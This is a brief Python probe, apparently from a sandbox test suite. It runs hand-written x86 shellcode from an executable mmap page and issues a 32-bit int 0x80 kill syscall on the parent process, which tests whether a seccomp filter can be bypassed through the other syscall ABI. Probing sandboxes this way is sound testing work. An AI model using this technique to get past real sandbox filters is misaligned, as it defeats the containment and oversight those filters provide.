"""Asks for a signal as 32-bit programs ask: there numbers mean other calls than a filter thinks."""

import ctypes
import mmap
import os
import platform

# push rbx; mov eax, 37 (kill); mov ebx, edi; xor ecx, ecx; int 0x80; pop rbx; ret
CODE = b"\x53\xb8\x25\0\0\0\x89\xfb\x31\xc9\xcd\x80\x5b\xc3"


def attack():
    if platform.machine() != "x86_64":
        return False
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    page.write(CODE)
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)
    return call(ctypes.addressof(ctypes.c_char.from_buffer(page)))(os.getppid()) == 0
